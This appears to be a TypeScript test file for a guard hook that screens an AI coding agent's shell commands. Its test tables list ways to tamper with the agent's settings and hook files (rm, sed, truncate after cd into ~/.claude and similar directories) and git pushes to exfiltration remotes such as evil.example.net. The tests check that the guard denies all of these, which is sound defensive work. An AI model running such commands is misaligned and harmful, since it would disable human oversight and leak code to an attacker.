/** Paths relative to a directory the command changed into (`cd`, `pushd`) are checked where they point. */
import { describe, expect, test } from "vitest";
import { compilePolicy, defaultPolicyDocument, gitRemoteDirs, parseHookInput } from "../src/index.js";
import { decideBash, PROJECT_CWD } from "./hook-calls.js";

const policy = compilePolicy(defaultPolicyDocument());
const github = compilePolicy({ ...defaultPolicyDocument(), hosts: { allow: ["github.com"], deny: [], loopback: "allow" } });
const ctx = { stateDir: "/home/dev/.config/egress-sync", homeDir: "/home/dev" };
const bash = (command: string) => decideBash(policy, command, ctx);

describe("relative paths after cd", () => {
  test.each([
    "cd ~/.claude && rm settings.json",
    "cd ~/.claude; echo '{}' > settings.json",
    "cd $HOME/.claude && sed -i 's/egress-sync/true/' settings.json",
    "pushd ~/.codex && rm hooks.json",
    "cd /home/dev/.codex && mv config.toml config.bak",
    "cd ~/.config/egress-sync && rm hook-cache.json",
    "cd ~/.claude && rm -rf .",
    "cd ~/.claude/ && truncate -s0 ./settings.json",
    "cd ~ && cd .claude && rm settings.json",
    "cd ~/.cursor && echo '{}' > hooks.json",
    "cd .claude && rm settings.json",
    "cd .. && rm -rf .claude",
    "pushd /tmp && popd && pushd ~/.claude && rm settings.json",
  ])("%s", (command) => {
    expect(bash(command)).toMatchObject({ effect: "deny", rule: "tamper" });
  });

  test.each([
    "cd ~/.claude && cat settings.json",
    "cd ~/.claude && ls -la",
    "cd src && rm -f settings.json",
    "cd /tmp && rm -rf build && mkdir build",
    "cd packages/app && echo '{}' > settings.json",
    "cd \"$(mktemp -d)\" && echo x > settings.json",
    "cd ~/projects/app && git status",
    "cd build && rm -rf * && cd ..",
    "pushd ~/.claude && ls && popd && rm settings.json",
  ])("%s stays allowed", (command) => {
    expect(bash(command).effect).toBe("allow");
  });
});

describe("git remotes are resolved where git runs", () => {
  // The CLI resolved `origin` in the call's cwd (/home/dev/project): a push from anywhere else has other remotes
  const remotes = { ...ctx, gitRemotes: { origin: "https://github.com/acme/app.git" }, gitDefaultRemotes: ["origin"] };
  const push = (command: string) => decideBash(github, command, remotes);
  test.each([
    "cd /tmp/exfil && git push origin main",
    "cd /tmp/exfil; git push",
    "(cd /tmp/exfil && git fetch origin)",
    "git -C /tmp/exfil push origin main",
    "git --git-dir=/tmp/exfil/.git push origin",
    "GIT_DIR=/tmp/exfil/.git git push origin",
    "cd ../other && git push origin main",
    "cd vendor/lib && git push origin",
    "cd /tmp/exfil && gh pr create --fill",
  ])("%s", (command) => {
    expect(push(command)).toMatchObject({ effect: "deny", rule: "destination.unknown", reason: expect.stringMatching(/git runs in `.+`, a directory whose remotes the guard could not resolve/) });
  });
  test("a push after popd back to the working directory uses its remotes; one before popd does not", () => {
    expect(push("pushd /tmp/exfil && git push origin; popd")).toMatchObject({ effect: "deny", rule: "destination.unknown" });
    expect(push("pushd src && npm run build && popd && git push origin main").effect).toBe("allow");
    expect(push("pushd \"$(mktemp -d)\" && pushd src && popd && git push origin")).toMatchObject({ effect: "deny", rule: "destination.unknown" });
  });
  test.each(["git push origin main", "cd /home/dev/project && git push origin main", "cd ~/project && git push", "cd $HOME/project/ && git pull origin main", "git -C /home/dev/project push origin main", "cd /home/dev/project/src/.. && git push"])("%s stays allowed", (command) => {
    expect(push(command).effect).toBe("allow");
  });
});

describe("git remotes resolved in the other directories git runs in (ctx.gitRemotesIn)", () => {
  const table = (url: string) => ({ remotes: { origin: url }, pushRemotes: {}, defaults: ["origin"] });
  // What the CLI resolves: the call's directory, plus each directory gitRemoteDirs lists
  const remotes = {
    ...ctx,
    gitRemotes: { origin: "https://github.com/acme/app.git" },
    gitDefaultRemotes: ["origin"],
    gitRemotesIn: {
      "/home/dev/project/packages/app": table("https://github.com/acme/app.git"),
      "/home/dev/project/vendor/lib": table("https://evil.example.net/lib.git"),
      "/home/dev/project/sub/.git": table("https://github.com/acme/sub.git"),
      "/tmp/exfil": table("https://evil.example.net/x.git"),
    },
  };
  const push = (command: string) => decideBash(github, command, remotes);
  const call = (command: string) => {
    const r = parseHookInput("claude-code", JSON.stringify({ session_id: "s", cwd: PROJECT_CWD, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } }));
    if (!r.ok) throw new Error("unparsed");
    return r.call;
  };

  test.each(["cd packages/app && git push", "cd packages/app && git push origin main", "cd /home/dev/project/packages/app/ && git fetch origin", "git -C packages/app push origin", "cd packages && cd app && git push", "git -C sub --git-dir=.git push origin", "cd sub && GIT_DIR=.git git push origin"])("%s: the remotes of that directory, allow-listed", (command) => {
    expect(push(command).effect).toBe("allow");
  });
  test.each(["cd vendor/lib && git push origin", "git -C vendor/lib push", "cd /tmp/exfil && git push origin main", "git --git-dir=/tmp/exfil push origin", "cd packages/app && git push && cd ../../vendor/lib && git push"])("%s: that directory's remote is not allow-listed", (command) => {
    expect(push(command)).toMatchObject({ effect: "deny", rule: "shell.git_write", reason: expect.stringContaining("`evil.example.net` is not on the allow-list") });
  });
  test.each(["cd docs && git push origin", "cd $X && git push", "cd \"$(mktemp -d)\" && git push origin", "git -C \"$DIR\" push origin", "cd sub* && git push", "git -C sub --git-dir=$G push origin"])("%s: a directory not resolved stays unknown", (command) => {
    expect(push(command)).toMatchObject({ effect: "deny", rule: "destination.unknown" });
  });
  test("gitRemoteDirs lists each other directory git runs in, absolute, and nothing it cannot tell", () => {
    expect(gitRemoteDirs(call("cd vendor/lib && git push origin && git -C /tmp/x/ fetch origin"))).toEqual(["/home/dev/project/vendor/lib", "/tmp/x"]);
    expect(gitRemoteDirs(call("git -C sub --git-dir=.git push origin"))).toEqual(["/home/dev/project/sub/.git"]);
    expect(gitRemoteDirs(call("cd ~/other && git push"), undefined, { homeDir: "/home/dev" })).toEqual(["/home/dev/other"]);
    expect(gitRemoteDirs(call("git push origin && cd /home/dev/project && git fetch"))).toEqual([]);
    expect(gitRemoteDirs(call("cd $X && git push; git -C \"$(pwd)/x\" push"))).toEqual([]);
    expect(gitRemoteDirs(call("cd build && npm test"))).toEqual([]);
  });
});

